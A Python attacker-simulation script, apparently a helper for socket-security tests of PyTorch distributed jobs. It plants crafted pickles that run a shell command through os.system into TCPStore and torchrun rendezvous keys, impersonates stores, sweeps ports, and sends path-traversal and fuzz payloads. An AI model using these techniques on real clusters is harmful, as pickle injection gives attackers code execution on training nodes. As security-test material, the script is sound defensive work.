"""Another user of a cluster, who writes to the stores of jobs: run by test_socket_attacks.py, as root or not.

    socket_attacker.py plant PORT ID MARK [HOST]   write to the store of a job from its first moment on
    socket_attacker.py plants MARK HOST RUN_ID...  the same for the stores of jobs, whose ports follow from the ids
    socket_attacker.py pretend PORT MARK           listen before the job does, with a store that has an answer to all
    socket_attacker.py sweep MARK HOST...          send to all ports of the hosts, and overwrite all keys of stores

They print READY once they begin, and end with their standard input. ``sweep`` prints a line for each kind of service
that it has reached.
"""

import base64
import json
import os
import pickle
import socket
import struct
import sys
import time
from contextlib import ExitStack, suppress
from datetime import timedelta
from threading import Thread

from torch.distributed import TCPStore

NOBODY = 65534
CONNECTION_S = 5


class Crafted:
    """Unpickled, it runs a command."""

    def __init__(self, mark):
        self._mark = mark

    def __reduce__(self):
        return os.system, (f"touch {self._mark}",)


def plant(port, run_id, mark, host="127.0.0.1"):
    """Write what torchrun's rendezvous would unpickle, and wrong ranks, again and again."""
    print("READY", flush=True)
    pickled = pickle.dumps(Crafted(mark))
    state = base64.b64encode(pickled)
    values = {f"torch.rendezvous.{run_id}": state, f"{run_id}/torch.rendezvous.{run_id}": state}
    for node in range(4):
        values[f"{run_id}/torchelastic/assigned_ranks/{node}"] = b"[0, 1, 0, 1]"
        values[f"{run_id}/torchelastic/role_info/{node}"] = pickled
    while True:  # A listener that never answers holds a client for good, so another connection begins every second.
        connection = Thread(target=_write_repeatedly, args=[host, int(port), values], daemon=True)
        connection.start()
        connection.join(1)
        time.sleep(0.02)


def _write_repeatedly(host, port, values):
    """Write the values to a store, until it ends or for some seconds; say once that it was a store of torchrun.

    Each kind of failure is printed once too, for a test that finds nothing planted.
    """
    ends = time.monotonic() + CONNECTION_S
    try:
        store = TCPStore(host, port, is_master=False, wait_for_workers=False, timeout=timedelta(seconds=1))
        while time.monotonic() < ends:
            for name, value in values.items():
                store.set(name, value)
            if "torch.rendezvous" in "".join(store.list_keys()):
                _report("PLANTED")
            time.sleep(0.02)
    except Exception as error:  # noqa: BLE001 - an attacker goes on
        _report(f"FAILED {type(error).__name__}: {' '.join(str(error).split())[:100]}")


def plants(mark, host, *run_ids):
    """Plant in the store of each job, at the port that follows from its number."""
    threads = []
    for run_id in run_ids:
        port = 20_000 + int(run_id.partition("-")[0]) % 10_000
        threads.append(Thread(target=plant, args=[port, run_id, mark, host], daemon=True))
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()


def pretend(port, mark):
    """Be the store at a job's port."""
    store = TCPStore("0.0.0.0", int(port), is_master=True, wait_for_workers=False)  # noqa: S104 - as a real one
    for name in ("contents", "default_pg/0//0"):
        for prefix in ("", "/worker/attempt_0/"):
            store.set(f"{prefix}{name}", pickle.dumps(Crafted(mark)))
    print("READY", flush=True)
    while True:
        time.sleep(1)


PORTS = (*range(20_000, 30_000), *range(32_768, 61_000))  # of jobs: by their numbers, and free ones of the kernel
ANSWER_S = 0.3
_REPORTED = set()


def sweep(mark, *hosts):
    """Attack whatever listens on the hosts, until the end: stores, agents, checkpoints in memory, gloo."""
    print("READY", flush=True)
    while True:
        threads = [
            Thread(target=_attack_port, args=[host, port, mark], daemon=True)
            for host in hosts
            for port in PORTS
            if _listens(host, port)
        ]
        for thread in threads:
            thread.start()
        for thread in threads:
            thread.join(10)


def _listens(host, port):
    with socket.socket() as probe:
        probe.settimeout(0.1)
        return probe.connect_ex((host, port)) == 0


def _attack_port(host, port, mark):
    with suppress(Exception):
        _overwrite(host, port, mark)
    for content in _messages(mark):
        with suppress(OSError), socket.create_connection((host, port), timeout=ANSWER_S) as connection:
            with suppress(TimeoutError):
                if b"challenge" in connection.recv(4096):
                    _reached("agent")
            connection.sendall(content)
            with suppress(TimeoutError):
                connection.recv(4096)
    with suppress(OSError):
        _reflect(host, port)


def _overwrite(host, port, mark):
    """Replace every value of a store by pickles, also under the names that torchrun's rendezvous would read."""
    pickled = pickle.dumps(Crafted(mark))
    store = TCPStore(host, port, is_master=False, wait_for_workers=False, timeout=timedelta(seconds=1))
    names = store.list_keys()
    _reached("store")
    for name in [*names, *(f"torch.rendezvous.{name.partition('/')[0]}" for name in names)]:
        store.set(name, base64.b64encode(pickled) if "rendezvous" in name else pickled)


def _messages(mark):
    """Yield what some protocol of a job might take: objects, orders to agents, requests for memory, a web page's."""
    pickled = pickle.dumps(Crafted(mark))
    yield pickled
    yield struct.pack("<Q", len(pickled)) + pickled
    yield struct.pack(">Q", len(pickled)) + pickled
    for message in ({"challenge": "a", "proof": "b"}, {"command": "end", "status": 0}, [], "\ud800", {"challenge": []}):
        yield json.dumps(message).encode() + b"\n"
    request = json.dumps(["../../.secret", 0, 64]).encode()
    yield bytes(64) + b"%b %b\n" % (b"0" * 64, request)
    yield b"GET / HTTP/1.1\r\n\r\n"
    yield b"[" * 60_000 + b"\n"
    yield b"\xff" * 60_000


def _reflect(host, port):
    """Let two connections of a service prove to each other what the other one asks."""
    with ExitStack() as opened:
        pair = [opened.enter_context(socket.create_connection((host, port), timeout=ANSWER_S)) for _ in range(2)]
        for source, target in (pair, pair[::-1]) * 3:
            with suppress(TimeoutError):
                target.sendall(source.recv(1 << 16))


def _reached(kind):
    _report(f"REACHED {kind}")


def _report(line):
    """Print a line the first time: nobody may read them before the end."""
    if line not in _REPORTED:
        _REPORTED.add(line)
        print(line, flush=True)


if __name__ == "__main__":
    if os.geteuid() == 0:
        os.setgroups([])
        os.setresgid(NOBODY, NOBODY, NOBODY)
        os.setresuid(NOBODY, NOBODY, NOBODY)
    Thread(target=lambda: sys.stdin.read() or os._exit(0), daemon=True).start()
    {"plant": plant, "plants": plants, "pretend": pretend, "sweep": sweep}[sys.argv[1]](*sys.argv[2:])
